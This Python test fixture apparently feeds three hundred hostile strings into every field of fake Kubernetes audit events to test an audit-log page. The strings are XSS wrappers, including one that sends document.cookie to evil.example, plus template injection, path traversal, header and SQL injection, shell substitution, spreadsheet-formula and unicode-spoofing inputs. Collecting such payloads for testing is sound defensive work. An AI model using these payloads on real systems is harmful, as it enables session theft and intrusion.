"""Three hundred strings that somebody may send as a name, a user agent or a body, to see what a page does with them."""

from __future__ import annotations

from itertools import product
from typing import Any, Final

import msgspec
from msgspec import Raw

from decklog.audit.event import Event, ObjectReference, Stage, Status, User

_ACTS: Final = (
    "window.ran=1",
    "alert(1)",
    "fetch('http://evil.example/'+document.cookie)",
    "document.location='http://evil.example/'",
    "window['r'+'an']=1",
)
_WRAPPINGS: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    "javascript:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    '<a href="javascript:{}">x</a>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></table><mglyph><style><img src=x onerror={}>",
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="http://evil.example/x.css">{}',
    '<base href="http://evil.example/">{}',
    '<object data="javascript:{}"></object>',
    "<style>@import 'http://evil.example/x.css';</style>{}",
    '<div style="background:url(http://evil.example/)">{}</div>',
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% print({}) %}}",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "\u2028{}//",
    "<x\u0000y onclick={}>",
    "<scr\u0000ipt>{}</scr\u0000ipt>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
)
_ODDITIES: Final = (
    "\u202egnp.exe",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u2066\u2069\u202a\u202c",
    "line\nline\r\nline\ttab",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x00\x01\x02\x7f\x80\x9f",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 8,
    "W" * 400,
    "\u3042" * 300,
    "\ud83d\ude00" * 50,
    "../../../etc/passwd",
    "..",
    ".",
    "%2e%2e%2f",
    "%00%0d%0aSet-Cookie:x=y",
    "a/b/c?d=e&f=g#h",
    "-",
    "-alice",
    "alice*",
    "a,b,c",
    " leading and trailing ",
    "'; DROP TABLE events; --",
    "\\\\server\\share",
    "$(reboot)`id`;|&",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "\ud800",
    "\udfff\udc00",
    "true",
    "null",
    "0",
    "",
    "system:masters",
    "core",
    "\U000e0001\U000e0041",
    "\uff0e\uff0e\uff0f",
    "K\u212a\u017f",
    "\u0430lice",
    "a" * 5_000,
)
MARKUP: Final = tuple(wrapping.format(act) for wrapping, act in product(_WRAPPINGS, _ACTS))
HOSTILE: Final = (*MARKUP, *_ODDITIES, *(f"{one}{_ODDITIES[0]}" for one in MARKUP))[:300]
assert len(HOSTILE) == 300

AT_ONCE: Final = 10
"""So many of them bear one audit ID: one page shows all of these."""


def attacks() -> list[Event]:
    """Give an event for each string, which has it everywhere that a client can put one."""
    return [_attack(number, text) for number, text in enumerate(HOSTILE)]


def _attack(number: int, text: str) -> Event:
    time = f"2026-03-01T10:{number // 60:02}:{number % 60:02}.000000Z"
    sound = text.encode("utf-8", "replace").decode()
    body: dict[str, Any] = {
        "kind": sound or "X",
        "apiVersion": "v1",
        "metadata": {"name": sound, "namespace": sound, "labels": {sound: sound}},
        "spec": {sound: [sound, {"name": sound}]},
    }
    return Event(
        level="RequestResponse",
        audit_id=f"attack-{number // AT_ONCE}",
        stage=Stage.RESPONSE_COMPLETE,
        request_uri=f"/{text}?command={text}",
        verb=("create", "delete", text, "get")[number % 4],
        user=User(text, uid=text, groups=(text, "x"), extra={text: (text,)}),
        impersonated_user=User(text, groups=(text,)) if number % 3 == 0 else None,
        source_ips=(text, "10.0.0.1") if number % 2 else (text,),
        user_agent=text,
        object_ref=ObjectReference(
            text if number % 5 == 0 else "pods",
            text if number % 2 else "shop",
            text,
            uid=text,
            subresource="exec" if number % 7 == 0 else "",
        ),
        response_status=Status(code=(200, 403, 500)[number % 3], message=text, reason=text),
        request_object=Raw(msgspec.json.encode(body)),
        response_object=Raw(msgspec.json.encode(body)),
        request_received_timestamp=time,
        stage_timestamp=time,
        annotations={text: text, "authorization.k8s.io/decision": text},
    )
